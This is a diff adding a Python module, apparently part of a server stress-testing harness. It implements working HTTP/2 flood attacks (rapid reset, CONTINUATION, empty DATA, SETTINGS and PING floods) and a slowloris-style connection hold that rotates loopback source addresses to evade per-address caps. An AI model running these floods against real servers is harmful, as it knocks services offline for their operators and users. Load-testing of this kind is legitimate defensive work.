@@ -1,0 +1,170 @@
+"""Floods: processes that only run where a processor would idle, so that what they cost is the server's work on them."""
+
+import itertools
+import multiprocessing
+import os
+import selectors
+import socket
+import time
+from typing import Iterator
+
+from hostilelib import wire
+from hostilelib.targets import Target
+
+PROCESSES = 2
+CONNECTIONS = 8
+LONG = 1_000_000_000
+
+
+def rapid_reset(target: Target) -> tuple[bytes, bytes]:
+    head = wire.block("GET", target.get, target.token)
+    flags = wire.END_STREAM | wire.END_HEADERS
+    cancel = (8).to_bytes(4, "big")
+    ids = range(1, 20_001, 2)
+    pairs = (wire.frame(wire.HEADERS, flags, i, head) + wire.frame(wire.RST_STREAM, 0, i, cancel) for i in ids)
+    return b"".join(pairs), b""
+
+
+def continuation(target: Target) -> tuple[bytes, bytes]:
+    opening = wire.frame(wire.HEADERS, wire.END_STREAM, 1, wire.block("GET", target.get, target.token))
+    return opening, wire.frame(wire.CONTINUATION, 0, 1, wire.literal("x-a", "b")) * 2_000
+
+
+def empty_data(target: Target) -> tuple[bytes, bytes]:
+    opening = wire.frame(wire.HEADERS, wire.END_HEADERS, 1, wire.block("POST", target.stream, target.token))
+    return opening, wire.frame(wire.DATA, 0, 1) * 4_000
+
+
+def settings(target: Target) -> tuple[bytes, bytes]:
+    return b"", wire.frame(wire.SETTINGS, 0, 0) * 4_000
+
+
+def ping(target: Target) -> tuple[bytes, bytes]:
+    return b"", wire.frame(wire.PING, 0, 0, b"hostile!") * 2_000
+
+
+# What comes after the preface once, and then again and again; nothing again means a new connection.
+H2 = {"rapid reset": rapid_reset, "CONTINUATION": continuation, "empty DATA": empty_data, "SETTINGS": settings, "PING": ping}
+
+
+class Flood:
+    """Processes that flood until they are ended."""
+
+    def __init__(self, kind: str, address: tuple[str, int], target: Target) -> None:
+        self.sent = multiprocessing.Value("Q", 0)
+        self.opened = multiprocessing.Value("Q", 0)
+        if kind == "connections":
+            work = lambda number: _connections(address, target.cap, number, self)  # noqa: E731
+        else:
+            opening, again = H2[kind](target)
+            work = lambda number: _frames(address, wire.HELLO + opening, again, self)  # noqa: E731
+        self.processes = [multiprocessing.Process(target=_idly, args=(work, n), daemon=True) for n in range(PROCESSES)]
+        for process in self.processes:
+            process.start()
+
+    def end(self) -> None:
+        for process in self.processes:
+            process.kill()
+        for process in self.processes:
+            process.join()
+
+    def count(self, sent: int, opened: int) -> None:
+        with self.sent.get_lock():
+            self.sent.value += sent
+        with self.opened.get_lock():
+            self.opened.value += opened
+
+
+def _idly(work, number: int) -> None:
+    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
+    work(number)
+
+
+def _connections(address: tuple[str, int], cap: int, number: int, flood: Flood) -> None:
+    """Opens connections with half a header each, up to its part of more than the cap, and keeps them open."""
+    held, most = [], cap // PROCESSES + cap // 10
+    # As many addresses as fill the server although each has its own cap.
+    sources = itertools.cycle(f"127.0.{number + 1}.{last}" for last in range(1, 65))
+    while True:
+        try:
+            peer = socket.create_connection(address, 1, (next(sources), 0))
+            peer.sendall(b"GET / HTTP/1.1\r\nhost: a\r\n")
+            flood.count(25, 1)
+            held.append(peer)
+        except OSError:
+            time.sleep(0.001)
+        if len(held) > most:
+            held.pop(0).close()
+
+
+def _frames(address: tuple[str, int], opening: bytes, again: bytes, flood: Flood) -> None:
+    """Keeps connections that send as fast as they are read, reads what comes, and replaces those that end."""
+    chooser = selectors.DefaultSelector()
+    while True:
+        while len(chooser.get_map()) < CONNECTIONS:
+            _open(chooser, address, _stream(opening, again), flood)
+        for key, events in chooser.select(0.1):
+            try:
+                if events & selectors.EVENT_READ and not key.fileobj.recv(1 << 16):
+                    raise ConnectionError("closed")
+                if events & selectors.EVENT_WRITE:
+                    _send(key, flood)
+            except BlockingIOError:
+                continue
+            except OSError:
+                chooser.unregister(key.fileobj)
+                key.fileobj.close()
+
+
+def _stream(opening: bytes, again: bytes) -> Iterator[bytes]:
+    yield opening
+    yield from itertools.repeat(again) if again else ()
+
+
+def _open(chooser: selectors.BaseSelector, address: tuple[str, int], stream: Iterator[bytes], flood: Flood) -> None:
+    try:
+        peer = socket.create_connection(address, 1, (f"127.0.0.{2 + flood.opened.value % 2}", 0))
+    except OSError:
+        time.sleep(0.01)
+        return
+    peer.setblocking(False)
+    flood.count(0, 1)
+    chooser.register(peer, selectors.EVENT_READ | selectors.EVENT_WRITE, [memoryview(next(stream)), stream])
+
+
+def _send(key: selectors.SelectorKey, flood: Flood) -> None:
+    rest, stream = key.data
+    count = key.fileobj.send(rest[: 1 << 16])
+    flood.count(count, 0)
+    rest = rest[count:]
+    if not rest:
+        following = next(stream, None)
+        if following is None:
+            raise ConnectionError("all was sent")
+        rest = memoryview(following)
+    key.data[0] = rest
+
+
+def sink() -> tuple[socket.socket, multiprocessing.Process]:
+    """A server that reads and forgets, at the priority of a real one: what a flood costs that nobody works on."""
+    listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
+    process = multiprocessing.Process(target=_swallow, args=(listener,), daemon=True)
+    process.start()
+    return listener, process
+
+
+def _swallow(listener: socket.socket) -> None:
+    chooser = selectors.DefaultSelector()
+    chooser.register(listener, selectors.EVENT_READ)
+    while True:
+        for key, _ in chooser.select():
+            if key.fileobj is listener:
+                chooser.register(listener.accept()[0], selectors.EVENT_READ)
+                continue
+            try:
+                if key.fileobj.recv(1 << 16):
+                    continue
+            except OSError:
+                pass
+            chooser.unregister(key.fileobj)
+            key.fileobj.close()
